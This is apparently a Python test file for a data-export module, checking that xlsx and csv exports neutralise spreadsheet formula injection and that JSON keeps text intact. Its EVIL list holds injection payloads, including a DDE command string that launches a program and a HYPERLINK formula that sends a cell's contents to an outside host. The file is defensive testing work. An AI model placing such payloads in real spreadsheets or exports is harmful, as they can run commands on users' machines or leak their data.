"""No text from outside comes alive in what is exported, and nothing is lost in JSON."""

import csv
import json
import shutil
import subprocess
from datetime import date
from io import BytesIO, StringIO
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from hub.export import FORMS, Column, Table, harmless, written

EVIL = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?x="&A1,"click")',
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "http://example.org",
    "mailto:a@example.org",
    "{=1+1}",
    "0123",
    "1234567890123456789",
]


def table(values: list, title: str = "=A1") -> Table:
    return Table("=now()", [Column("text", title)], [{"text": value} for value in values])


def cells(values: list) -> list:
    book = openpyxl.load_workbook(BytesIO(written(table(values), "xlsx")))
    [sheet] = book.worksheets
    return [cell for row in sheet.iter_rows() for cell in row]


def records(values: list) -> list[str]:
    text = written(table(values), "csv").decode("utf-8-sig")
    return [record[0] for record in csv.reader(StringIO(text, newline=""))]


def test_a_workbook_holds_texts_alone():
    found = cells(EVIL)

    assert {cell.data_type for cell in found} == {"s"}
    assert [cell.value.replace("_x000D_", "\r") for cell in found[1:]] == EVIL
    assert [cell.hyperlink for cell in found if cell.hyperlink] == []


def test_no_field_of_delimited_text_starts_a_formula():
    found = records(EVIL)

    assert found[0] == "'=A1"
    assert [text.removeprefix("'") for text in found[1:]] == EVIL
    assert [text for text in found if text.startswith(("=", "+", "-", "@", "\t", "\r"))] == []


@given(st.text(max_size=20))
def test_harmless_text_starts_no_formula_and_keeps_what_it_said(text: str):
    found = harmless(text)

    assert found.endswith(text)
    assert not found.startswith(("=", "+", "@", "\t", "\r"))


@pytest.mark.parametrize("text", ["-1", "-12.5", "12", "a=b", ""])
def test_plain_negative_numbers_and_usual_text_stay(text: str):
    assert harmless(text) == text


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), max_size=4))
def test_json_loses_nothing(values: list[str]):
    found = json.loads(written(table(values), "json"))

    assert [row["text"] for row in found["rows"]] == values


@given(st.lists(st.text(), max_size=4))
def test_whatever_text_comes_can_be_written_and_read(values: list[str]):
    for form in FORMS:
        assert written(table(values), form)
    assert {cell.data_type for cell in cells(values)} <= {"s", "n"}  # n: an empty cell


def test_numbers_and_days_keep_their_types():
    found = cells([12, 1.5, date(2026, 3, 20), None, 1 << 60])

    assert [cell.value for cell in found[1:4]] == [12, 1.5, found[3].value]
    assert found[3].value.date() == date(2026, 3, 20)
    assert found[-1].value == str(1 << 60)


def test_a_text_that_no_cell_can_hold_is_cut_and_says_so():
    [_, long] = cells(["x" * 40_000])

    assert len(long.value) == 32_767
    assert long.value.endswith("[…]")


def test_an_office_program_finds_no_formula(tmp_path: Path):
    soffice = shutil.which("soffice")
    for form in ("xlsx", "csv"):
        (tmp_path / f"out.{form}").write_bytes(written(table(EVIL), form))

    if soffice:
        for form in ("xlsx", "csv"):
            command = [soffice, "--headless", "--convert-to", "fods", f"out.{form}"]
            subprocess.run(command, cwd=tmp_path, check=True, capture_output=True, timeout=120)
            assert "table:formula" not in (tmp_path / "out.fods").read_text("utf-8")
    book = openpyxl.load_workbook(tmp_path / "out.xlsx")
    cells_of = [c for row in book.worksheets[0].iter_rows() for c in row]
    assert {cell.data_type for cell in cells_of} == {"s"}
